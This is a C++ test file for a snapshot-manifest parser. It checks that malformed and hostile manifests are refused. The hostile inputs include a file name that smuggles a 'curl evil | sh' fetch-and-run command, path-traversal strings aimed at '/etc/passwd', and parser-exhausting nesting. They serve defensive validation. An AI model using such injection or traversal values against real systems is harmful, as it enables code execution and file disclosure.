#include "snapshot/format.hpp"

#include <catch2/catch.hpp>
#include <functional>
#include <limits>

using namespace airheal;
using namespace airheal::snapshot;
using nlohmann::json;

namespace {
const std::string kHex(64, 'a');
json valid() {
  return json{
      {"format", "airheal-snapshot"},
      {"version", 1},
      {"channel", "stable"},
      {"sequence", 3},
      {"created", "2026-11-01T00:00:00Z"},
      {"expires", "2026-12-01T00:00:00Z"},
      {"entries",
       json::array(
           {{{"path", "blobs/sha256/" + kHex}, {"size", 10}, {"sha256", kHex}, {"kind", "blob"}},
            {{"path", "advisories/0/a.json"},
             {"size", 5},
             {"sha256", std::string(64, 'b')},
             {"kind", "advisory"},
             {"format", "osv"}}})},
      {"images", json::array({{{"repository", "library/debian"},
                               {"tag", "12"},
                               {"digest", "sha256:" + kHex},
                               {"media_type", "application/vnd.oci.image.manifest.v1+json"}}})}};
}
std::string refusal(const json& j) {
  auto r = parse_manifest(j.dump());
  return r ? std::string("ACCEPTED") : r.error().message;
}
}  // namespace

TEST_CASE("a manifest round-trips through serialize and parse", "[snapshot][format]") {
  auto m = parse_manifest(valid().dump());
  REQUIRE(m);
  CHECK(m->channel == "stable");
  CHECK(m->sequence == 3);
  CHECK(format_time(m->created) == "2026-11-01T00:00:00Z");
  auto again = parse_manifest(serialize(*m));
  REQUIRE(again);
  CHECK(serialize(*again) == serialize(*m));
  CHECK(again->images.size() == 1);
  CHECK(again->entries[1].format == "osv");
}

TEST_CASE("malformed manifests are refused with the field named", "[snapshot][format]") {
  CHECK_THAT(parse_manifest("{not json").error().message, Catch::Contains("not valid JSON"));
  auto j = valid();
  j["surprise"] = 1;
  CHECK_THAT(refusal(j), Catch::Contains("unknown field 'surprise'"));
  j = valid();
  j["version"] = 2;
  CHECK_THAT(refusal(j), Catch::Contains("upgrade airheal"));
  j = valid();
  j["sequence"] = "3";
  CHECK_THAT(refusal(j), Catch::Contains("sequence must be a non-negative integer"));
  j = valid();
  j["expires"] = "2026-10-01T00:00:00Z";
  CHECK_THAT(refusal(j), Catch::Contains("expires must be after created"));
  j = valid();
  j["created"] = "yesterday";
  CHECK_THAT(refusal(j), Catch::Contains("RFC 3339"));
  j = valid();
  j["channel"] = "../etc";
  CHECK_THAT(refusal(j), Catch::Contains("channel"));
  j = valid();
  j["entries"][1]["path"] = "../../etc/passwd";
  CHECK_THAT(refusal(j), Catch::Contains("not a safe relative path"));
  j = valid();
  j["entries"][1]["path"] = "/etc/passwd";
  CHECK_THAT(refusal(j), Catch::Contains("not a safe relative path"));
  j = valid();
  j["entries"][1]["path"] = j["entries"][0]["path"];
  j["entries"][1]["kind"] = "blob";
  j["entries"][1]["sha256"] = kHex;
  CHECK_THAT(refusal(j), Catch::Contains("listed twice"));
  j = valid();
  j["entries"][0]["path"] = "blobs/sha256/" + std::string(64, 'c');
  CHECK_THAT(refusal(j), Catch::Contains("blobs/sha256/<its sha256>"));
  j = valid();
  j["entries"][0]["in_previous"] = true;
  CHECK_THAT(refusal(j), Catch::Contains("in_previous needs a previous"));
  j = valid();
  j["entries"][1]["format"] = "nvd";
  CHECK_THAT(refusal(j), Catch::Contains("format must be"));
  j = valid();
  j["images"][0]["digest"] = "sha256:" + std::string(64, 'd');
  CHECK_THAT(refusal(j), Catch::Contains("is not a blob entry"));
  j = valid();
  j["images"][0]["repository"] = "UPPER/case";
  CHECK_THAT(refusal(j), Catch::Contains("repository"));
  j = valid();
  j["entries"][1]["path"] = "signatures/x.asc";
  CHECK_THAT(refusal(j), Catch::Contains("reserved"));
  j = valid();
  j["trust"] = {{"add", {"ABCD"}}};
  CHECK_THAT(refusal(j), Catch::Contains("fingerprints"));
  j = valid();
  j["previous"] = {{"sequence", 5}, {"digest", "sha256:" + kHex}};
  CHECK_THAT(refusal(j), Catch::Contains("previous.sequence must be lower"));
}

TEST_CASE("snapshot paths are relative, plain and bounded", "[snapshot][format]") {
  for (auto ok : {"a", "blobs/sha256/abc", "advisories/0/GO-2024-1.json", "x/y_z-1.2+b~c@d:e=f"})
    CHECK(is_safe_path(ok));
  for (auto bad :
       {"", "/a", "a/", "a//b", "./a", "a/./b", "a/../b", "..", "a b", "a\\b", "a\nb", "é"}) {
    INFO(bad);
    CHECK_FALSE(is_safe_path(bad));
  }
  CHECK_FALSE(is_safe_path(std::string(2000, 'a')));
}

TEST_CASE("RFC 3339 times parse with Z, offsets and fractions", "[snapshot][format]") {
  CHECK(parse_time("1970-01-01T00:00:00Z") == 0);
  CHECK(parse_time("2026-11-22T12:00:00.123Z") == parse_time("2026-11-22T12:00:00Z"));
  CHECK(*parse_time("2026-11-22T12:00:00+01:00") == *parse_time("2026-11-22T11:00:00Z"));
  CHECK_FALSE(parse_time("2026-11-22 12:00:00"));
  CHECK_FALSE(parse_time("2026-13-01T00:00:00Z"));
  CHECK(format_time(*parse_time("2026-02-03T04:05:06Z")) == "2026-02-03T04:05:06Z");
}

TEST_CASE("hostile manifest values from the adversarial review are refused",
          "[snapshot][format][hostile]") {
  struct Case {
    const char* what;
    std::function<void(json&)> change;
    const char* expect;
  };
  auto artifact = [](json& j, json name) {
    j["artifacts"] = json::array({{{"name", name}, {"digest", "sha256:" + kHex}, {"size", 10}}});
  };
  auto package = [](json& j, const char* field, json value) {
    json p{{"name", "libssl3"},         {"version", "3.0.15-1~deb12u1"}, {"architecture", "amd64"},
           {"filename", "libssl3.deb"}, {"digest", "sha256:" + kHex},    {"size", 10}};
    p[field] = value;
    j["packages"] = json::array({p});
  };
  const std::vector<Case> cases = {
      {"artefact named .", [&](json& j) { artifact(j, "."); }, "must be a plain file name"},
      {"artefact named ..", [&](json& j) { artifact(j, ".."); }, "must be a plain file name"},
      {"artefact name with a newline", [&](json& j) { artifact(j, "app\nRUN curl evil | sh"); },
       "app\\x0aRUN"},
      {"artefact name with a carriage return", [&](json& j) { artifact(j, "a\rb"); },
       "plain file name"},
      {"artefact name starting with -", [&](json& j) { artifact(j, "--force"); },
       "plain file name"},
      {"artefact name with a backslash", [&](json& j) { artifact(j, "a\\b"); }, "plain file name"},
      {"artefact name of 256 bytes", [&](json& j) { artifact(j, std::string(256, 'a')); },
       "plain file name"},
      {"package file name going up", [&](json& j) { package(j, "filename", "../x.deb"); },
       "not a safe relative path"},
      {"package version with a slash", [&](json& j) { package(j, "version", "1/2"); },
       "without '/'"},
      {"package name with a newline", [&](json& j) { package(j, "name", "a\nb"); }, "a\\x0ab"},
      {"package of an unknown format", [&](json& j) { package(j, "format", "zip"); },
       "packages[0].format 'zip' is not one of deb, apk, rpm"},
      {"package format not a string", [&](json& j) { package(j, "format", 7); },
       "packages[0].format must be a string"},
      {"sequence 2^63-1", [](json& j) { j["sequence"] = std::numeric_limits<std::int64_t>::max(); },
       "sequence must be at most"},
      {"sequence 2^53", [](json& j) { j["sequence"] = std::int64_t{1} << 53; },
       "sequence must be at most"},
      {"31 February", [](json& j) { j["created"] = "2026-02-31T00:00:00Z"; }, "RFC 3339"},
      {"29 February of a common year", [](json& j) { j["created"] = "2025-02-29T00:00:00Z"; },
       "RFC 3339"},
      {"31 April", [](json& j) { j["expires"] = "2026-04-31T00:00:00Z"; }, "RFC 3339"},
      {"offset -99:99", [](json& j) { j["created"] = "2026-11-01T00:00:00-99:99"; }, "RFC 3339"},
      {"offset +24:00", [](json& j) { j["created"] = "2026-11-01T00:00:00+24:00"; }, "RFC 3339"},
      {"threshold above the signature limit",
       [](json& j) {
         j["trust"] = {{"threshold", 17}};
       },
       "threshold must be at most"},
  };
  for (const auto& c : cases) {
    SECTION(c.what) {
      auto j = valid();
      c.change(j);
      CHECK_THAT(refusal(j), Catch::Contains(c.expect));
    }
  }
}

TEST_CASE("manifest bytes that attack the parser are refused before they cost anything",
          "[snapshot][format][hostile]") {
  // 30 MiB of '[' (before any signature check this used to cost 2.4 GB and 32 s).
  CHECK_THAT(parse_manifest(std::string(30u << 20, '[')).error().message,
             Catch::Contains("nests deeper than 8 levels"));
  CHECK_THAT(parse_manifest(std::string(100000, '[') + std::string(100000, ']')).error().message,
             Catch::Contains("nests deeper"));
  // A duplicate key means different things to different readers: refused, not "last one wins".
  auto text = valid().dump();
  text.insert(1, "\"sequence\":99,");
  CHECK_THAT(parse_manifest(text).error().message, Catch::Contains("duplicate key \"sequence\""));
  CHECK_THAT(parse_manifest(std::string(kMaxManifestBytes + 1, ' ')).error().message,
             Catch::Contains("larger than"));
}

TEST_CASE("leap days and valid offsets still parse", "[snapshot][format]") {
  CHECK(parse_time("2024-02-29T00:00:00Z"));
  CHECK(parse_time("2000-02-29T00:00:00Z"));
  CHECK_FALSE(parse_time("1900-02-29T00:00:00Z"));
  CHECK(*parse_time("2026-11-22T12:00:00-23:59") == *parse_time("2026-11-23T11:59:00Z"));
  CHECK(is_plain_name("openssl-3.0.15.tar.gz"));
  CHECK(is_plain_name("libssl3_3.0.15-1~deb12u1_amd64.deb"));
  CHECK_FALSE(is_plain_name(""));
  CHECK(human_name("a\nb") == "a\\x0ab");
}

TEST_CASE("a package entry says its format, and a .deb's entry reads as before",
          "[snapshot][format]") {
  auto j = valid();
  json deb{{"name", "libssl3"},         {"version", "3.0.15-1~deb12u1"}, {"architecture", "amd64"},
           {"filename", "libssl3.deb"}, {"digest", "sha256:" + kHex},    {"size", 10}};
  json apk{{"name", "libcrypto1.1"},
           {"version", "1.1.1k-r0"},
           {"architecture", "x86_64"},
           {"filename", "libcrypto1.1-1.1.1k-r0.apk"},
           {"digest", "sha256:" + kHex},
           {"size", 10},
           {"format", "apk"}};
  j["packages"] = json::array({deb, apk});
  auto m = parse_manifest(j.dump());
  REQUIRE(m);
  REQUIRE(m->packages.size() == 2);
  CHECK(m->packages[0].format == "deb");  // a manifest without the field holds .debs
  CHECK(m->packages[1].format == "apk");
  auto out = json::parse(serialize(*m));
  CHECK_FALSE(out["packages"][0].contains("format"));
  CHECK(out["packages"][1]["format"] == "apk");
  auto again = parse_manifest(serialize(*m));
  REQUIRE(again);
  CHECK(again->packages[1].format == "apk");
}
